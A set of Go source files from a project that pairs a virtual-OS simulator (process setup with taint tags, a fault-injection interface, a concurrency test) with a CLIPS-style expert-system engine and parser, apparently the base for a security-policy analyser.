	envPtrs := writeStrings(p.Env, envTag)

	writeArray := func(ptrs []uint32, t taint.Tag) uint32 {
		start := addr
		for _, ptr := range ptrs {
			mem.Store32(addr, ptr)
			addr += 4
		}
		mem.Store32(addr, 0) // NULL terminator
		addr += 4
		tag(start, addr, t)
		return start
	}
	argvArr := writeArray(argvPtrs, argvTag)
	envArr := writeArray(envPtrs, envTag)

	sp := uint32(stackTop - stackArea - 16)
	mem.Store32(sp, uint32(len(p.Argv)))
	mem.Store32(sp+4, argvArr)
	mem.Store32(sp+8, envArr)
	p.CPU.Regs[isa.ESP] = sp
	tag(sp, sp+12, argvTag)
}

// installStdio opens fds 0, 1, 2.
func (p *Process) installStdio() {
	p.FDs[0] = &FDesc{Kind: FDStdin, Path: "stdin"}
	p.FDs[1] = &FDesc{Kind: FDStdout, Path: "stdout"}
	p.FDs[2] = &FDesc{Kind: FDStderr, Path: "stderr"}
	p.nextFD = 3
}

// String renders a short process identity for diagnostics.
func (p *Process) String() string {
	return fmt.Sprintf("pid %d (%s)", p.PID, p.Path)
}
