package vos

// FaultPoint describes one chaos decision point: a place where the OS
// consults the fault injector before performing an action on behalf of
// the guest. The fields identify the action precisely enough for the
// injector to classify it and to record a reproducible fault log.
type FaultPoint struct {
	PID   int
	Num   uint32 // syscall number (SysRead, SysWrite, ...)
	Sock  uint32 // socketcall sub-number (SockConnect, ...), 0 otherwise
	FD    int    // descriptor argument, -1 when the call takes none
	Path  string // path/endpoint argument, "" when the call takes none
	Clock uint64 // virtual clock at the decision point
}

// FaultInjector is the seeded chaos hook consulted by the kernel and
// the simulated network (package chaos implements it). A nil injector
// means no fault is ever injected. All methods run on the simulator's
// single thread; implementations may keep unsynchronized state.
//
// Determinism contract: the OS consults the injector at well-defined
// points in a fixed order for a given guest workload, so an injector
// whose decisions depend only on its own state (e.g. a seeded PRNG)
// makes every run under the same plan bit-reproducible.
type FaultInjector interface {
	// SyscallFault is consulted before a faultable system call
	// dispatches. Returning ok makes the call fail immediately with
	// the (positive) errno, without executing.
	SyscallFault(fp FaultPoint) (errno uint32, ok bool)
	// ShortRead may clamp the byte count of a read that is about to
	// complete; it returns the (possibly reduced) count.
	ShortRead(fp FaultPoint, want uint32) uint32
	// ScheduledConnect is consulted when a scheduled inbound
	// connection is about to be delivered to a guest listener. It may
	// drop the connection entirely or delay it by extra virtual ticks.
	ScheduledConnect(clock uint64, addr string) (delay uint64, drop bool)
	// DropRemote is consulted when a scripted remote peer delivers a
	// response toward the guest; returning true drops the payload in
	// flight (the write still appears to succeed on the remote side).
	DropRemote(addr string, n int) bool
}

// SetInjector attaches (or, with nil, detaches) a fault injector to
// the machine and its network. Runs without an injector behave exactly
// as before the injector API existed.
func (os *OS) SetInjector(fi FaultInjector) {
	os.inject = fi
	os.Net.inject = fi
}
