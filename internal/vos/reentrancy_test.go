package vos

import (
	"bytes"
	"sync"
	"testing"

	"repro/internal/asm"
)

// TestConcurrentInstances is the reentrancy audit, mechanized: many
// OS instances scheduling guests concurrently must neither race (run
// with -race) nor influence each other's execution. This is the
// property that lets the analysis service run one private OS per job
// across worker shards with no locking.
func TestConcurrentInstances(t *testing.T) {
	const src = `
.entry _start
.text
_start:
    mov ebx, 1
    mov ecx, msg
    mov edx, 3
    mov eax, 4
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
msg: .ascii "ok\n"
`
	// Reference execution, sequential.
	ref := buildOS(t, src)
	start(t, ref, ProcSpec{})
	run(t, ref)

	const goroutines = 8
	const iterations = 4
	var wg sync.WaitGroup
	type trial struct {
		console []byte
		steps   uint64
	}
	results := make([]trial, goroutines)
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < iterations; i++ {
				os := New(Options{})
				os.FS.Install("/bin/prog", asm.MustAssemble("/bin/prog", src))
				if _, err := os.StartProcess(ProcSpec{Path: "/bin/prog"}); err != nil {
					t.Errorf("goroutine %d: start: %v", g, err)
					return
				}
				if err := os.Run(); err != nil {
					t.Errorf("goroutine %d: run: %v", g, err)
					return
				}
				results[g] = trial{console: os.Console, steps: os.TotalSteps}
			}
		}(g)
	}
	wg.Wait()
	for g, tr := range results {
		if !bytes.Equal(tr.console, ref.Console) {
			t.Errorf("goroutine %d: console %q, want %q", g, tr.console, ref.Console)
		}
		if tr.steps != ref.TotalSteps {
			t.Errorf("goroutine %d: steps %d, want %d", g, tr.steps, ref.TotalSteps)
		}
	}
}
