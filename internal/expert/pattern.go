package expert

// Bindings carries variable bindings accumulated while matching a
// rule's patterns.
type Bindings struct {
	vars map[string]Value
}

// NewBindings returns an empty binding set.
func NewBindings() *Bindings { return &Bindings{vars: map[string]Value{}} }

// Get returns the value bound to name, if any.
func (b *Bindings) Get(name string) (Value, bool) {
	v, ok := b.vars[name]
	return v, ok
}

// MustGet returns the bound value or nil.
func (b *Bindings) MustGet(name string) Value { return b.vars[name] }

// Str returns a bound string value (empty if unbound or non-string).
func (b *Bindings) Str(name string) string {
	s, _ := b.vars[name].(string)
	return s
}

// Int returns a bound int64 value (0 if unbound or non-integer).
func (b *Bindings) Int(name string) int64 {
	v, _ := Norm(b.vars[name]).(int64)
	return v
}

// List returns a bound multifield value.
func (b *Bindings) List(name string) []Value {
	l, _ := Norm(b.vars[name]).([]Value)
	return l
}

// Fact returns the fact bound by a pattern binder (?f <- pattern).
func (b *Bindings) Fact(name string) *Fact {
	f, _ := b.vars[name].(*Fact)
	return f
}

func (b *Bindings) set(name string, v Value) { b.vars[name] = v }

func (b *Bindings) clone() *Bindings {
	out := NewBindings()
	for k, v := range b.vars {
		out.vars[k] = v
	}
	return out
}

// Matcher decides whether a slot value is acceptable, possibly
// extending the bindings.
type Matcher func(v Value, b *Bindings) bool

// Lit matches a literal value.
func Lit(want Value) Matcher {
	return func(v Value, _ *Bindings) bool { return Eq(v, want) }
}

// Var binds the slot value to a variable on first use and requires
// equality on subsequent uses (CLIPS ?x semantics).
func Var(name string) Matcher {
	return func(v Value, b *Bindings) bool {
		if prev, ok := b.Get(name); ok {
			return Eq(prev, v)
		}
		b.set(name, Norm(v))
		return true
	}
}

// Any matches anything without binding.
func Any() Matcher {
	return func(Value, *Bindings) bool { return true }
}

// Pred matches when fn accepts the value.
func Pred(fn func(v Value) bool) Matcher {
	return func(v Value, _ *Bindings) bool { return fn(Norm(v)) }
}

// BindPred binds the value to name when fn accepts it.
func BindPred(name string, fn func(v Value) bool) Matcher {
	return func(v Value, b *Bindings) bool {
		v = Norm(v)
		if !fn(v) {
			return false
		}
		if prev, ok := b.Get(name); ok {
			return Eq(prev, v)
		}
		b.set(name, v)
		return true
	}
}

// Not inverts a matcher (the inner matcher must not bind).
func Not(m Matcher) Matcher {
	return func(v Value, b *Bindings) bool { return !m(v, b) }
}

// SlotMatch pairs a slot name with its matcher.
type SlotMatch struct {
	Slot string
	M    Matcher
}

// S builds a SlotMatch.
func S(slot string, m Matcher) SlotMatch { return SlotMatch{Slot: slot, M: m} }

// Pattern matches one fact of a template. A Negated pattern is a
// CLIPS negative conditional element: it is satisfied when *no* fact
// matches; it binds nothing and contributes no fact to the
// activation.
type Pattern struct {
	Template string
	Binder   string // when set, the matched *Fact binds to this name
	Matches  []SlotMatch
	Negated  bool
}

// P builds a pattern.
func P(template string, matches ...SlotMatch) Pattern {
	return Pattern{Template: template, Matches: matches}
}

// PBind builds a pattern that binds the matched fact (?f <- pattern).
func PBind(binder, template string, matches ...SlotMatch) Pattern {
	return Pattern{Template: template, Binder: binder, Matches: matches}
}

// PNot builds a negative conditional element: (not (template ...)).
// Variables used inside must already be bound by earlier patterns.
func PNot(template string, matches ...SlotMatch) Pattern {
	return Pattern{Template: template, Matches: matches, Negated: true}
}

// match attempts the pattern against a fact, extending b on success.
// b is mutated; the caller clones before trying alternatives.
func (p *Pattern) match(f *Fact, b *Bindings) bool {
	if f.Template != p.Template {
		return false
	}
	for _, sm := range p.Matches {
		v, ok := f.Slots[sm.Slot]
		if !ok {
			return false
		}
		if !sm.M(v, b) {
			return false
		}
	}
	if p.Binder != "" {
		b.set(p.Binder, f)
	}
	return true
}
