package expert

import (
	"fmt"
	"io"
	"sort"
	"strings"
)

// Rule is a defrule: patterns and tests on the left-hand side, an
// action on the right.
type Rule struct {
	Name     string
	Doc      string
	Salience int
	Patterns []Pattern
	// Tests run after all patterns matched, over the bindings
	// (CLIPS test conditional elements).
	Tests []func(b *Bindings) bool
	// Action fires with the matched bindings.
	Action func(ctx *Context, b *Bindings)
}

// Context is handed to rule actions: it can assert and retract facts
// and print to the engine's output.
type Context struct {
	E    *Engine
	Rule *Rule
	IDs  []int // the matched fact ids, pattern order
}

// Assert adds a fact from within an action.
func (c *Context) Assert(template string, slots map[string]Value) (*Fact, error) {
	return c.E.Assert(template, slots)
}

// Retract removes a fact from within an action.
func (c *Context) Retract(id int) { c.E.Retract(id) }

// Printf writes to the engine's output stream.
func (c *Context) Printf(format string, args ...any) {
	fmt.Fprintf(c.E.Out, format, args...)
}

// FireRecord is one entry of the fire trace.
type FireRecord struct {
	Seq     int
	Rule    string
	FactIDs []int
}

// String renders the record CLIPS-style: "FIRE 1 check_execve: f-43,f-42,f-5".
func (fr FireRecord) String() string {
	refs := make([]string, len(fr.FactIDs))
	for i, id := range fr.FactIDs {
		refs[i] = fmt.Sprintf("f-%d", id)
	}
	return fmt.Sprintf("FIRE %d %s: %s", fr.Seq, fr.Rule, strings.Join(refs, ","))
}

type activation struct {
	rule *Rule
	ids  []int
	b    *Bindings
	seq  int // recency: assertion sequence that created it
}

func activationKey(rule string, ids []int) string {
	parts := make([]string, len(ids))
	for i, id := range ids {
		parts[i] = fmt.Sprint(id)
	}
	return rule + "|" + strings.Join(parts, ",")
}

// Engine is the inference engine: working memory + rules + agenda.
type Engine struct {
	// Out receives rule printout (warnings); defaults to io.Discard.
	Out io.Writer
	// Echo, when non-nil, receives a CLIPS-transcript line for every
	// assertion ("CLIPS> (assert (template ...))"), reproducing the
	// paper's Appendix A.1 interaction log.
	Echo io.Writer
	// OnFire, when non-nil, observes every rule firing, invoked after
	// the record joins the fire trace and before the rule action runs.
	OnFire func(FireRecord)

	templates map[string]*Template
	rules     []*Rule
	facts     map[int]*Fact
	order     []int // fact ids in assertion order
	nextFact  int
	seq       int

	agenda []*activation
	fired  map[string]bool // refraction memory

	trace   []FireRecord
	fireSeq int
}

// NewEngine returns an empty engine.
func NewEngine() *Engine {
	return &Engine{
		Out:       io.Discard,
		templates: make(map[string]*Template),
		facts:     make(map[int]*Fact),
		fired:     make(map[string]bool),
	}
}

// DefTemplate registers a template.
func (e *Engine) DefTemplate(t *Template) error {
	if _, dup := e.templates[t.Name]; dup {
		return fmt.Errorf("expert: duplicate template %q", t.Name)
	}
	e.templates[t.Name] = t
	return nil
}

// DefRule registers a rule. Existing facts are immediately eligible.
func (e *Engine) DefRule(r *Rule) error {
	for _, other := range e.rules {
		if other.Name == r.Name {
			return fmt.Errorf("expert: duplicate rule %q", r.Name)
		}
	}
	for _, p := range r.Patterns {
		if _, ok := e.templates[p.Template]; !ok {
			return fmt.Errorf("expert: rule %q uses undefined template %q", r.Name, p.Template)
		}
	}
	e.rules = append(e.rules, r)
	// Activate against current working memory.
	e.activateRule(r, -1)
	return nil
}

// Assert adds a fact, validating slots against the template and
// applying defaults, then computes new activations.
func (e *Engine) Assert(template string, slots map[string]Value) (*Fact, error) {
	t, ok := e.templates[template]
	if !ok {
		return nil, fmt.Errorf("expert: assert of undefined template %q", template)
	}
	full := make(map[string]Value, len(t.Slots))
	for name := range slots {
		if _, ok := t.slot(name); !ok {
			return nil, fmt.Errorf("expert: template %q has no slot %q", template, name)
		}
	}
	for _, sd := range t.Slots {
		v, present := slots[sd.Name]
		if !present {
			v = sd.Default
			if v == nil && sd.Multi {
				v = []Value{}
			}
		}
		v = Norm(v)
		if sd.Multi {
			if _, isList := v.([]Value); !isList {
				return nil, fmt.Errorf("expert: slot %s.%s is a multislot", template, sd.Name)
			}
		}
		full[sd.Name] = v
	}
	e.nextFact++
	f := &Fact{ID: e.nextFact, Template: template, Slots: full}
	if e.Echo != nil {
		fmt.Fprintf(e.Echo, "CLIPS> (assert %s)\n", f)
	}
	e.facts[f.ID] = f
	e.order = append(e.order, f.ID)
	e.seq++
	for _, r := range e.rules {
		e.activate(r, f)
	}
	return f, nil
}

// Retract removes a fact and any agenda activations that used it.
func (e *Engine) Retract(id int) {
	if _, ok := e.facts[id]; !ok {
		return
	}
	delete(e.facts, id)
	for i, fid := range e.order {
		if fid == id {
			e.order = append(e.order[:i], e.order[i+1:]...)
			break
		}
	}
	kept := e.agenda[:0]
	for _, a := range e.agenda {
		uses := false
		for _, fid := range a.ids {
			if fid == id {
				uses = true
				break
			}
		}
		if !uses {
			kept = append(kept, a)
		}
	}
	e.agenda = kept
	// Retraction may re-enable negative conditional elements;
	// recompute the rules that use them (refraction and the agenda
	// dedup keep this idempotent).
	for _, r := range e.rules {
		for i := range r.Patterns {
			if r.Patterns[i].Negated {
				e.join(r, -1)
				break
			}
		}
	}
}

// Fact returns the fact with the given id.
func (e *Engine) Fact(id int) (*Fact, bool) {
	f, ok := e.facts[id]
	return f, ok
}

// Facts returns all facts in assertion order.
func (e *Engine) Facts() []*Fact {
	out := make([]*Fact, 0, len(e.order))
	for _, id := range e.order {
		out = append(out, e.facts[id])
	}
	return out
}

// activate finds activations of r that include the new fact.
func (e *Engine) activate(r *Rule, newFact *Fact) {
	e.join(r, newFact.ID)
}

// activateRule finds all activations of a freshly defined rule.
func (e *Engine) activateRule(r *Rule, _ int) {
	e.join(r, -1)
}

// anyMatch reports whether any current fact matches the pattern under
// the given bindings (used for negative conditional elements; the
// probe bindings are discarded).
func (e *Engine) anyMatch(p *Pattern, b *Bindings) bool {
	for _, fid := range e.order {
		f := e.facts[fid]
		if f.Template != p.Template {
			continue
		}
		if p.match(f, b.clone()) {
			return true
		}
	}
	return false
}

// join enumerates complete pattern matches. When mustInclude >= 0,
// only tuples containing that fact id are produced (incremental
// activation on assert); -1 enumerates everything (new rule, or a
// recomputation after retract re-enabled negative elements).
// Negated patterns consume no fact: they hold when nothing matches,
// and are re-verified at fire time (asserts between activation and
// firing can defeat them).
func (e *Engine) join(r *Rule, mustInclude int) {
	n := len(r.Patterns)
	if n == 0 {
		return
	}
	var ids []int // ids of positive-pattern facts, in pattern order
	var rec func(i int, b *Bindings, used bool)
	rec = func(i int, b *Bindings, used bool) {
		if i == n {
			if mustInclude >= 0 && !used {
				return
			}
			key := activationKey(r.Name, ids)
			if e.fired[key] {
				return
			}
			for _, a := range e.agenda {
				if activationKey(a.rule.Name, a.ids) == key {
					return
				}
			}
			fb := b.clone()
			for _, test := range r.Tests {
				if !test(fb) {
					return
				}
			}
			e.agenda = append(e.agenda, &activation{
				rule: r, ids: append([]int(nil), ids...), b: fb, seq: e.seq,
			})
			return
		}
		p := &r.Patterns[i]
		if p.Negated {
			if e.anyMatch(p, b) {
				return
			}
			rec(i+1, b, used)
			return
		}
		for _, fid := range e.order {
			f := e.facts[fid]
			if f.Template != p.Template {
				continue
			}
			dup := false
			for _, prev := range ids {
				if prev == fid {
					dup = true
					break
				}
			}
			if dup {
				continue
			}
			nb := b.clone()
			if !p.match(f, nb) {
				continue
			}
			ids = append(ids, fid)
			rec(i+1, nb, used || fid == mustInclude)
			ids = ids[:len(ids)-1]
		}
	}
	rec(0, NewBindings(), false)
}

// Run fires agenda activations until the agenda empties or limit rules
// have fired (limit <= 0 means no limit). Returns the number fired.
func (e *Engine) Run(limit int) int {
	fired := 0
	for len(e.agenda) > 0 {
		if limit > 0 && fired >= limit {
			break
		}
		a := e.pop()
		// The activation may reference retracted facts if the agenda
		// was manipulated; pop guards, but double-check.
		stale := false
		for _, id := range a.ids {
			if _, ok := e.facts[id]; !ok {
				stale = true
				break
			}
		}
		if stale {
			continue
		}
		// Re-verify negative conditional elements: a fact asserted
		// after this activation was created may defeat them.
		defeated := false
		for i := range a.rule.Patterns {
			p := &a.rule.Patterns[i]
			if p.Negated && e.anyMatch(p, a.b) {
				defeated = true
				break
			}
		}
		if defeated {
			continue
		}
		key := activationKey(a.rule.Name, a.ids)
		if e.fired[key] {
			continue
		}
		e.fired[key] = true
		e.fireSeq++
		rec := FireRecord{Seq: e.fireSeq, Rule: a.rule.Name, FactIDs: a.ids}
		e.trace = append(e.trace, rec)
		if e.OnFire != nil {
			e.OnFire(rec)
		}
		fmt.Fprintln(e.Out, rec.String())
		if a.rule.Action != nil {
			a.rule.Action(&Context{E: e, Rule: a.rule, IDs: a.ids}, a.b)
		}
		fired++
	}
	return fired
}

// pop removes the highest-priority activation: salience desc, then
// recency desc (depth strategy).
func (e *Engine) pop() *activation {
	best := 0
	for i := 1; i < len(e.agenda); i++ {
		a, b := e.agenda[i], e.agenda[best]
		if a.rule.Salience > b.rule.Salience ||
			(a.rule.Salience == b.rule.Salience && a.seq > b.seq) {
			best = i
		}
	}
	a := e.agenda[best]
	e.agenda = append(e.agenda[:best], e.agenda[best+1:]...)
	return a
}

// AgendaLen reports pending activations.
func (e *Engine) AgendaLen() int { return len(e.agenda) }

// Trace returns the fire history.
func (e *Engine) Trace() []FireRecord { return e.trace }

// Reset clears working memory, the agenda, refraction memory and the
// trace, keeping templates and rules.
func (e *Engine) Reset() {
	e.facts = make(map[int]*Fact)
	e.order = nil
	e.agenda = nil
	e.fired = make(map[string]bool)
	e.trace = nil
	e.nextFact = 0
	e.fireSeq = 0
	e.seq = 0
}

// DumpFacts renders working memory for diagnostics.
func (e *Engine) DumpFacts() string {
	var b strings.Builder
	ids := append([]int(nil), e.order...)
	sort.Ints(ids)
	for _, id := range ids {
		fmt.Fprintf(&b, "f-%d %s\n", id, e.facts[id])
	}
	return b.String()
}
