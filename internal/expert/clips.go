package expert

import (
	"fmt"
	"io"
	"strings"
)

// Clips is a textual front-end for the engine implementing the CLIPS
// subset the paper's Appendix A uses:
//
//	(deftemplate name "doc"? (slot s (default v))... (multislot m)...)
//	(defrule name "doc"? (declare (salience N))?
//	    [?f <-] (template (slot constraint)...)...
//	    (test (<op> <expr> <expr>))...
//	    =>
//	    (printout t <expr>... crlf)
//	    (assert (template (slot <expr>)...))
//	    (retract ?f)...)
//	(assert (template (slot value)...))
//	(retract <fact-id>)
//	(run [limit])  (facts)  (agenda)  (reset)
//
// Slot constraints: a literal, a variable ?x (binds / must match), or
// a multifield variable $?x. Test operators: eq neq > < >= <=.
type Clips struct {
	Eng *Engine
	Out io.Writer
}

// NewClips wraps an engine; output defaults to the engine's Out.
func NewClips(eng *Engine) *Clips {
	return &Clips{Eng: eng, Out: eng.Out}
}

// Eval parses and evaluates CLIPS source (any number of forms).
func (c *Clips) Eval(src string) error {
	forms, err := parseSexprs(src)
	if err != nil {
		return err
	}
	for _, f := range forms {
		if err := c.evalForm(f); err != nil {
			return err
		}
	}
	return nil
}

func (c *Clips) printf(format string, args ...any) {
	if c.Out != nil {
		fmt.Fprintf(c.Out, format, args...)
	}
}

func (c *Clips) evalForm(f *sexpr) error {
	if !f.isList() {
		return fmt.Errorf("clips: top-level form must be a list, got %s", f)
	}
	switch f.head() {
	case "deftemplate":
		return c.evalDeftemplate(f)
	case "defrule":
		return c.evalDefrule(f)
	case "assert":
		_, err := c.evalAssert(f, nil)
		return err
	case "retract":
		return c.evalRetract(f)
	case "run":
		limit := 0
		if len(f.kids) > 1 && f.kids[1].isNum {
			limit = int(f.kids[1].num)
		}
		n := c.Eng.Run(limit)
		c.printf("%d rules fired\n", n)
		return nil
	case "facts":
		c.printf("%s", c.Eng.DumpFacts())
		return nil
	case "agenda":
		c.printf("%d activation(s)\n", c.Eng.AgendaLen())
		return nil
	case "reset":
		c.Eng.Reset()
		return nil
	}
	return fmt.Errorf("clips: unknown form %q", f.head())
}

func (c *Clips) evalDeftemplate(f *sexpr) error {
	if len(f.kids) < 2 || !f.kids[1].atom {
		return fmt.Errorf("clips: deftemplate needs a name")
	}
	t := &Template{Name: f.kids[1].sym}
	rest := f.kids[2:]
	if len(rest) > 0 && rest[0].atom && rest[0].isStr {
		rest = rest[1:] // doc string
	}
	for _, s := range rest {
		if !s.isList() || len(s.kids) < 2 || !s.kids[1].atom {
			return fmt.Errorf("clips: bad slot spec %s", s)
		}
		def := SlotDef{Name: s.kids[1].sym}
		switch s.head() {
		case "slot":
		case "multislot":
			def.Multi = true
		default:
			return fmt.Errorf("clips: bad slot kind %q", s.head())
		}
		for _, opt := range s.kids[2:] {
			if opt.isList() && opt.head() == "default" && len(opt.kids) == 2 {
				def.Default = opt.kids[1].value()
			}
		}
		t.Slots = append(t.Slots, def)
	}
	return c.Eng.DefTemplate(t)
}

// evalAssert handles (assert (template (slot value)...)); b supplies
// variable bindings when called from a rule action.
func (c *Clips) evalAssert(f *sexpr, b *Bindings) (*Fact, error) {
	if len(f.kids) != 2 || !f.kids[1].isList() {
		return nil, fmt.Errorf("clips: assert takes one fact")
	}
	fact := f.kids[1]
	tmpl := fact.head()
	if tmpl == "" {
		return nil, fmt.Errorf("clips: fact needs a template name")
	}
	slots := map[string]Value{}
	for _, sl := range fact.kids[1:] {
		if !sl.isList() || len(sl.kids) < 1 || !sl.kids[0].atom {
			return nil, fmt.Errorf("clips: bad slot %s", sl)
		}
		name := sl.kids[0].sym
		vals := make([]Value, 0, len(sl.kids)-1)
		for _, v := range sl.kids[1:] {
			ev, err := c.evalExpr(v, b)
			if err != nil {
				return nil, err
			}
			vals = append(vals, ev)
		}
		switch len(vals) {
		case 0:
			slots[name] = []Value{}
		case 1:
			slots[name] = vals[0]
		default:
			slots[name] = vals
		}
	}
	// Multislot values given as single scalars are wrapped by the
	// template check; wrap explicitly when the template says multi.
	if t, ok := c.Eng.templates[tmpl]; ok {
		for name, v := range slots {
			if sd, ok := t.slot(name); ok && sd.Multi {
				if _, isList := Norm(v).([]Value); !isList {
					slots[name] = []Value{Norm(v)}
				}
			}
		}
	}
	return c.Eng.Assert(tmpl, slots)
}

func (c *Clips) evalRetract(f *sexpr) error {
	if len(f.kids) != 2 || !f.kids[1].isNum {
		return fmt.Errorf("clips: retract takes a fact id")
	}
	c.Eng.Retract(int(f.kids[1].num))
	return nil
}

// evalExpr evaluates an expression atom in an action / fact context:
// literals pass through; ?vars resolve from bindings.
func (c *Clips) evalExpr(e *sexpr, b *Bindings) (Value, error) {
	if e.atom && !e.isStr && !e.isNum && strings.HasPrefix(e.sym, "?") {
		if b == nil {
			return nil, fmt.Errorf("clips: variable %s outside a rule", e.sym)
		}
		v, ok := b.Get(strings.TrimPrefix(strings.TrimPrefix(e.sym, "$"), "?"))
		if !ok {
			return nil, fmt.Errorf("clips: unbound variable %s", e.sym)
		}
		return v, nil
	}
	if e.atom && strings.HasPrefix(e.sym, "$?") {
		return c.evalExpr(&sexpr{atom: true, sym: e.sym[1:]}, b)
	}
	if e.atom {
		return e.value(), nil
	}
	return nil, fmt.Errorf("clips: cannot evaluate %s in this context", e)
}

func (c *Clips) evalDefrule(f *sexpr) error {
	if len(f.kids) < 2 || !f.kids[1].atom {
		return fmt.Errorf("clips: defrule needs a name")
	}
	r := &Rule{Name: f.kids[1].sym}
	rest := f.kids[2:]
	if len(rest) > 0 && rest[0].atom && rest[0].isStr {
		r.Doc = rest[0].str
		rest = rest[1:]
	}

	// Split at =>.
	arrow := -1
	for i, k := range rest {
		if k.atom && k.sym == "=>" {
			arrow = i
			break
		}
	}
	if arrow < 0 {
		return fmt.Errorf("clips: defrule %s has no =>", r.Name)
	}
	lhs, rhs := rest[:arrow], rest[arrow+1:]

	// LHS: declare / binder / pattern / test.
	var pendingBinder string
	for i := 0; i < len(lhs); i++ {
		k := lhs[i]
		if k.atom {
			// "?f <- (pattern ...)" arrives as atoms ?f and <-.
			if strings.HasPrefix(k.sym, "?") {
				pendingBinder = strings.TrimPrefix(k.sym, "?")
				continue
			}
			if k.sym == "<-" {
				continue
			}
			return fmt.Errorf("clips: unexpected %s in rule LHS", k.sym)
		}
		switch k.head() {
		case "declare":
			for _, d := range k.kids[1:] {
				if d.isList() && d.head() == "salience" && len(d.kids) == 2 && d.kids[1].isNum {
					r.Salience = int(d.kids[1].num)
				}
			}
		case "test":
			test, err := c.compileTest(k)
			if err != nil {
				return fmt.Errorf("clips: rule %s: %w", r.Name, err)
			}
			r.Tests = append(r.Tests, test)
		case "not":
			if len(k.kids) != 2 || !k.kids[1].isList() {
				return fmt.Errorf("clips: rule %s: (not ...) takes one pattern", r.Name)
			}
			pat, err := c.compilePattern(k.kids[1], "")
			if err != nil {
				return fmt.Errorf("clips: rule %s: %w", r.Name, err)
			}
			pat.Negated = true
			r.Patterns = append(r.Patterns, pat)
		default:
			pat, err := c.compilePattern(k, pendingBinder)
			pendingBinder = ""
			if err != nil {
				return fmt.Errorf("clips: rule %s: %w", r.Name, err)
			}
			r.Patterns = append(r.Patterns, pat)
		}
	}

	// RHS: compile actions.
	actions, err := c.compileActions(rhs)
	if err != nil {
		return fmt.Errorf("clips: rule %s: %w", r.Name, err)
	}
	r.Action = actions
	return c.Eng.DefRule(r)
}

func (c *Clips) compilePattern(k *sexpr, binder string) (Pattern, error) {
	tmpl := k.head()
	if tmpl == "" {
		return Pattern{}, fmt.Errorf("bad pattern %s", k)
	}
	pat := Pattern{Template: tmpl, Binder: binder}
	for _, sl := range k.kids[1:] {
		if !sl.isList() || len(sl.kids) != 2 || !sl.kids[0].atom {
			return Pattern{}, fmt.Errorf("bad slot pattern %s", sl)
		}
		slot := sl.kids[0].sym
		cons := sl.kids[1]
		var m Matcher
		switch {
		case cons.atom && strings.HasPrefix(cons.sym, "$?"):
			m = Var(strings.TrimPrefix(cons.sym, "$?"))
		case cons.atom && strings.HasPrefix(cons.sym, "?"):
			m = Var(strings.TrimPrefix(cons.sym, "?"))
		default:
			m = Lit(cons.value())
		}
		pat.Matches = append(pat.Matches, S(slot, m))
	}
	return pat, nil
}

// compileTest builds a test function from (test (<op> a b)).
func (c *Clips) compileTest(k *sexpr) (func(*Bindings) bool, error) {
	if len(k.kids) != 2 || !k.kids[1].isList() {
		return nil, fmt.Errorf("bad test %s", k)
	}
	cmp := k.kids[1]
	op := cmp.head()
	if len(cmp.kids) != 3 {
		return nil, fmt.Errorf("test %s needs two operands", op)
	}
	a, b := cmp.kids[1], cmp.kids[2]
	return func(bd *Bindings) bool {
		av, errA := c.evalExpr(a, bd)
		bv, errB := c.evalExpr(b, bd)
		if errA != nil || errB != nil {
			return false
		}
		switch op {
		case "eq":
			return Eq(av, bv)
		case "neq":
			return !Eq(av, bv)
		case ">", "<", ">=", "<=":
			ai, aok := Norm(av).(int64)
			bi, bok := Norm(bv).(int64)
			if !aok || !bok {
				return false
			}
			switch op {
			case ">":
				return ai > bi
			case "<":
				return ai < bi
			case ">=":
				return ai >= bi
			default:
				return ai <= bi
			}
		}
		return false
	}, nil
}

// compileActions builds the RHS executor.
func (c *Clips) compileActions(rhs []*sexpr) (func(*Context, *Bindings), error) {
	type action func(ctx *Context, b *Bindings) error
	var acts []action
	for _, k := range rhs {
		if !k.isList() {
			return nil, fmt.Errorf("bad action %s", k)
		}
		k := k
		switch k.head() {
		case "printout":
			if len(k.kids) < 2 {
				return nil, fmt.Errorf("printout needs a router")
			}
			exprs := k.kids[2:] // skip the router (t)
			acts = append(acts, func(ctx *Context, b *Bindings) error {
				for _, e := range exprs {
					if e.atom && e.sym == "crlf" {
						ctx.Printf("\n")
						continue
					}
					v, err := c.evalExpr(e, b)
					if err != nil {
						return err
					}
					if s, ok := v.(string); ok {
						ctx.Printf("%s", s)
					} else {
						ctx.Printf("%s", FormatValue(v))
					}
				}
				return nil
			})
		case "assert":
			acts = append(acts, func(ctx *Context, b *Bindings) error {
				_, err := c.evalAssert(k, b)
				return err
			})
		case "retract":
			if len(k.kids) != 2 || !k.kids[1].atom || !strings.HasPrefix(k.kids[1].sym, "?") {
				return nil, fmt.Errorf("retract in actions takes ?binder")
			}
			name := strings.TrimPrefix(k.kids[1].sym, "?")
			acts = append(acts, func(ctx *Context, b *Bindings) error {
				f := b.Fact(name)
				if f == nil {
					return fmt.Errorf("clips: ?%s is not a fact binder", name)
				}
				ctx.Retract(f.ID)
				return nil
			})
		default:
			return nil, fmt.Errorf("unsupported action %q", k.head())
		}
	}
	return func(ctx *Context, b *Bindings) {
		for _, a := range acts {
			if err := a(ctx, b); err != nil {
				ctx.Printf("[rule error: %v]\n", err)
				return
			}
		}
	}, nil
}
