// Package expert implements a CLIPS-style forward-chaining production
// system: template facts, rules whose left-hand sides pattern-match
// working memory with variable binding, an agenda ordered by salience
// and recency, refraction, and a fire trace that lets every conclusion
// explain itself — the property the paper names as the reason to use
// an expert system over, e.g., a neural network (§6.2.1: "an expert
// system has the ability to reason about its decision making").
//
// Secpert (internal/secpert) builds the HTH security policy on top of
// this engine, mirroring the CLIPS implementation of the paper's
// Appendix A.
package expert

import (
	"fmt"
	"sort"
	"strings"
)

// Value is a slot value: string, int64, float64, bool, or []Value
// (a multifield). Integers must be int64 — helpers normalize.
type Value = any

// Norm normalizes numeric values to int64/float64 so equality behaves.
func Norm(v Value) Value {
	switch x := v.(type) {
	case int:
		return int64(x)
	case int32:
		return int64(x)
	case uint32:
		return int64(x)
	case uint64:
		return int64(x)
	case float32:
		return float64(x)
	case []string:
		out := make([]Value, len(x))
		for i, s := range x {
			out[i] = s
		}
		return out
	}
	return v
}

// Eq compares two values, deeply for multifields.
func Eq(a, b Value) bool {
	a, b = Norm(a), Norm(b)
	la, aok := a.([]Value)
	lb, bok := b.([]Value)
	if aok != bok {
		return false
	}
	if aok {
		if len(la) != len(lb) {
			return false
		}
		for i := range la {
			if !Eq(la[i], lb[i]) {
				return false
			}
		}
